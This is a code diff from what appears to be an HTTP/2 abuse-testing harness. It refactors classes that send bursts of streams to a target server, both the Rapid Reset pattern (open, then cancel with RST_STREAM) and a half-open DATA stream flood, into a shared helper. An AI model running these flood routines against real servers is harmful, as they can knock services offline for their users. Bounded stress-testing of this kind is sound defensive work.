@@ -223,6 +223,7 @@ class Abuse:
     """Counts what was sent; stops at its cap or after ``ABUSE_S``."""
 
     cap = 0
+    batch = 0  # what one step sends
 
     def __init__(self, seat: Seat) -> None:
         self.seat = seat
@@ -256,6 +257,18 @@ class Abuse:
     def step(self) -> None:
         raise NotImplementedError
 
+    def open_streams(self, connection: Connection, after: Callable[[int], bytes]) -> None:
+        """``batch`` streams opened on ``connection`` in one send, each its HEADERS and then
+        ``after(stream)``; counted as sent, or as one failure to send."""
+        burst = bytearray()
+        for _ in range(self.batch):
+            stream, headers = connection.open_stream()
+            burst += headers + after(stream)
+        if connection.send(bytes(burst)):
+            self.sent += self.batch
+        else:
+            self.send_failures += 1
+
     def report(self) -> dict[str, Any]:
         extra = {k: v for k, v in self.extra.items() if k != "current"}
         return {
@@ -282,14 +295,8 @@ class RapidReset(Abuse):
             connection = self.target()
         except OSError:
             return
-        burst = bytearray()
-        for _ in range(self.batch):
-            stream, headers = connection.open_stream()
-            burst += headers + frame(RST_STREAM, 0, stream, struct.pack(">I", CANCEL))
-        if connection.send(bytes(burst)):
-            self.sent += self.batch
-        else:
-            self.send_failures += 1
+        reset = struct.pack(">I", CANCEL)
+        self.open_streams(connection, lambda stream: frame(RST_STREAM, 0, stream, reset))
 
 
 class RapidResetBeside(RapidReset):
@@ -318,15 +325,8 @@ class StreamFlood(Abuse):
             connection = self.connection()
         except OSError:
             return
-        burst = bytearray()
-        for _ in range(self.batch):
-            stream, headers = connection.open_stream()
-            half = b"\x00" + struct.pack(">I", 100) + b"\x0a" * 10
-            burst += headers + frame(DATA, 0, stream, half)
-        if connection.send(bytes(burst)):
-            self.sent += self.batch
-        else:
-            self.send_failures += 1
+        half = b"\x00" + struct.pack(">I", 100) + b"\x0a" * 10
+        self.open_streams(connection, lambda stream: frame(DATA, 0, stream, half))
         self.extra["refused_streams"] = connection.refused_streams
 
 
